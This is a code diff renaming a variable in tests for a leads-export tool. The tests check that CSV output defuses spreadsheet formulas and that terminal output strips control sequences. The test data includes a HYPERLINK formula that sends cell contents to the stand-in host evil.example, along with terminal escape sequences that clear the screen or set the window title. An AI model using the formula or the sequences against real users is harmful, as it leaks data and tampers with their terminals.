@@ -45,7 +45,7 @@ testOnBoth(
     for (const [index, start] of starts.entries()) {
       const formula = `${start}HYPERLINK("http://evil.example?"&A1)`;
       const all = { name: formula, email: formula, company: formula, phone: formula, message: `Honest;${formula}\n${formula}` };
-      const [owed] = await keepRequest(given.database, {
+      const [enqueued] = await keepRequest(given.database, {
         request: given.dialect === 'sqlite' ? all : withoutZero(all),
         now: new Date(index),
       });
@@ -54,7 +54,7 @@ testOnBoth(
       await given.database
         .updateTable('notifications')
         .set({ last_error: `x;${suspected_because}` })
-        .where('id', '=', String(owed?.id))
+        .where('id', '=', String(enqueued?.id))
         .execute();
     }
     const { out } = await leads(given, '--csv');
@@ -68,7 +68,7 @@ testOnBoth(
 );
 
 testOnBoth('the text is for people: every fact of a request, and nothing that a terminal would obey', async (_context, given) => {
-  const [owed] = await keepRequest(given.database, { request: { company: 'Lindqvist Labs', phone: '+46 70' }, now: RECEIVED });
+  const [enqueued] = await keepRequest(given.database, { request: { company: 'Lindqvist Labs', phone: '+46 70' }, now: RECEIVED });
   const evil = { name: 'Ada \x1b[31m', message: 'One\r\n\x1b]0;title\x07two \x9b2J', suspected: true, suspected_because: 'A reason' };
   const row = await given.database.selectFrom('consultation_requests').selectAll().executeTakeFirstOrThrow();
   const changed = encryptRow(given.keyring, 'consultation_requests', {
@@ -77,7 +77,7 @@ testOnBoth('the text is for people: every fact of a request, and nothing that a 
   });
   await given.database.updateTable('consultation_requests').set(changed).execute();
   const trouble = { attempts: 3, last_error: 'The mail server said \x1b[2J550' };
-  await given.database.updateTable('notifications').set(trouble).where('id', '=', String(owed?.id)).execute();
+  await given.database.updateTable('notifications').set(trouble).where('id', '=', String(enqueued?.id)).execute();
 
   const { out } = await leads(given);
   for (const fact of [
